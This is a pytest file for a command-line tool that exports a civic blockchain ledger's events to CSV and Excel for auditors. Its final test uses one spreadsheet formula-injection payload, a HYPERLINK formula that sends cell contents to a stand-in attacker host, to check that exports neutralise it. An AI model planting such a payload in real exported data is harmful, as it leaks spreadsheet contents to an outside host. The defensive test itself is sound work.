"""`report EVENTS`: the suite's events exported for auditors — issue records and register a
parcel, export them as CSV and as an Excel workbook, read both back: one row per event, every
argument in its own column, the actor the event names (its `operator`), block times and full
transaction hashes; dates as bounds; unknown event names and empty ranges refused."""

from __future__ import annotations

import csv
import datetime as dt
import os
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from shared_fixtures import invoke_command

from civic_ledger.cli import report as report_cli
from civic_ledger.identity import client as id_client
from civic_ledger.identity import records as rec_client
from civic_ledger.property import titles as title_client

EVENTS = "RecordIssued,ParcelRegistered"


def _invoke(suite: Any, *args: str) -> Any:
    return invoke_command(report_cli.report.commands["events"], suite, *args)


@pytest.fixture(scope="module")
def acts(suite: Any, agency: dict[str, Any], chain: Any) -> dict[str, Any]:
    """Two records issued by the tax bureau and a parcel registered by the land registry,
    between blocks `first` and `last`."""
    registry, identity = suite["RecordRegistry"], suite["IdentityRegistry"]
    first = chain.blocks.height + 1
    tag = os.urandom(3).hex()
    person = id_client.Registration.new(f"REP-{tag}", "0x" + os.urandom(20).hex(), "person")
    id_client.register(identity, person, sender=agency["identity_office"])
    schema = rec_client.register_schema(
        registry, name=f"rep-{tag}", field_layout="uint16 year", issuer_role="TAX_RECORD_ISSUER",
        revocable=True, adverse=False, default_validity=0, sender=agency["data_bureau"],
    )  # fmt: skip
    records = [
        rec_client.issue(
            registry,
            rec_client.RecordRequest(
                schema, person.subject, data=rec_client.encode_data("uint16 year", {"year": y})
            ),
            sender=agency["tax_bureau"],
        )
        for y in (2025, 2026)
    ]
    parcel = title_client.register(
        suite["TitleRegistry"], person.subject, f"REP-{tag}", b"\x21" * 32, 120, 2,
        sender=agency["land_registry"],
    )  # fmt: skip
    suite["CityToken"].mint(agency["tax_bureau"], 7, sender=agency["finance_bureau"])
    return {
        "first": first, "last": chain.blocks.height, "records": records, "parcel": parcel,
        "subject": "0x" + person.subject.hex(), "schema": schema,
        "bureau": agency["tax_bureau"].address, "treasurer": agency["finance_bureau"].address, "registrar": agency["land_registry"].address,
    }  # fmt: skip


def _bounds(acts: dict[str, Any]) -> list[str]:
    return ["--from", str(acts["first"]), "--to", str(acts["last"])]


def _check(rows: list[dict[str, Any]], acts: dict[str, Any]) -> None:
    assert [r["event"] for r in rows] == ["RecordIssued", "RecordIssued", "ParcelRegistered"]
    issued, parcel = rows[:2], rows[2]
    assert [r["recordId"] for r in issued] == ["0x" + bytes(i).hex() for i in acts["records"]]
    assert {r["actor"] for r in issued} == {acts["bureau"]}
    assert all(r["contract"] == "RecordRegistry" for r in issued)
    assert all(r["subject"] == acts["subject"] for r in issued)
    assert parcel["actor"] == acts["registrar"] and parcel["contract"] == "TitleRegistry"
    assert int(parcel["parcelId"]) == acts["parcel"]
    for row in rows:
        assert len(row["tx_hash"]) == 66 and acts["first"] <= int(row["block"]) <= acts["last"]
        dt.datetime.strptime(row["time"], "%Y-%m-%dT%H:%M:%SZ")
        assert row["operator"] == row["actor"]  # the argument is there as well


def test_csv_and_xlsx_hold_every_event_with_its_actor(
    suite: Any, acts: dict[str, Any], tmp_path: Path
) -> None:
    out = tmp_path / "events.csv"
    done = _invoke(suite, EVENTS, *_bounds(acts), "--out", str(out))
    assert done.exit_code == 0 and "wrote 3 events" in done.text, done.text
    with out.open(newline="", encoding="utf-8") as handle:
        _check(list(csv.DictReader(handle)), acts)

    book_path = tmp_path / "events.xlsx"
    done = _invoke(suite, EVENTS, *_bounds(acts), "--out", str(book_path))
    assert done.exit_code == 0, done.text
    sheet = load_workbook(book_path, read_only=True)["events"]
    header, *values = [list(r) for r in sheet.iter_rows(values_only=True)]
    padded = [r + [None] * (len(header) - len(r)) for r in values]  # empty cells at the end
    rows = [dict(zip(header, ["" if v is None else v for v in r], strict=True)) for r in padded]
    assert isinstance(rows[0]["block"], int)
    assert isinstance(rows[2]["parcelId"], str)  # a uint256 beyond 2**53 kept exact, as text
    _check([{k: str(v) for k, v in r.items()} for r in rows], acts)


def test_all_and_dates_and_refusals(suite: Any, acts: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    every = _invoke(suite, "all", *_bounds(acts), "--out", str(out), "--encoding", "gb18030")
    assert every.exit_code == 0, every.text
    with out.open(newline="", encoding="gb18030") as handle:
        rows = list(csv.DictReader(handle))
    names = [r["event"] for r in rows]
    # an event naming no operator (ERC-20 Transfer): the actor is the transaction's sender
    [mint] = [r for r in rows if r["event"] == "Transfer" and r["value"] == "7"]
    assert mint["actor"] == acts["treasurer"] and mint["value"] == "7"
    assert names.count("RecordIssued") == 2 and "IdentityRegistered" in names
    assert "SchemaRegistered" in names

    today = dt.datetime.now(dt.UTC).date()
    days = ["--from", str(today - dt.timedelta(days=400)), "--to", str(today + dt.timedelta(1))]
    dated = _invoke(suite, EVENTS, *days, "--out", str(tmp_path / "d.csv"))
    assert dated.exit_code == 0 and "events (blocks 0-" in dated.text, dated.text

    unknown = _invoke(suite, "RecordIssued,Nope", "--out", str(tmp_path / "x.csv"))
    assert unknown.exit_code == 2 and "'Nope'" in unknown.text, unknown.text
    backwards = _invoke(suite, "all", "--from", "5", "--to", "4", "--out", str(out))
    assert backwards.exit_code == 2 and "--to" in backwards.text
    no_format = _invoke(suite, "all", "--out", str(tmp_path / "x.txt"))
    assert no_format.exit_code == 2 and "--format" in no_format.text


def test_report_events_is_the_default_command() -> None:
    result = CliRunner().invoke(report_cli.report, ["TaxPaid", "--help"])
    assert result.exit_code == 0 and "--format" in result.output


def test_text_from_the_chain_is_never_a_formula(tmp_path: Path) -> None:
    """A name an agency registered on chain (say a grant round's) cannot run as a formula in
    the auditor's spreadsheet; numbers, negative ones included, stay numbers."""
    from civic_ledger.report.events import EventRow
    from civic_ledger.report.export import write_report

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    row = EventRow("RoundCreated", "GrantFund", 7, 1_900_000_000, "0x" + "ab" * 32, 0,
                   "0x" + "11" * 20, {"name": evil, "delta": -5, "big": 2**200})  # fmt: skip
    write_report([row], tmp_path / "r.csv", "csv")
    with (tmp_path / "r.csv").open(newline="") as handle:
        [written] = list(csv.DictReader(handle))
    assert written["name"] == "'" + evil and written["delta"] == "-5"
    assert written["big"] == str(2**200)

    write_report([row], tmp_path / "r.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["events"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["name"].value == evil and cells["name"].data_type == "s"
    assert cells["delta"].value == -5 and cells["big"].value == str(2**200)
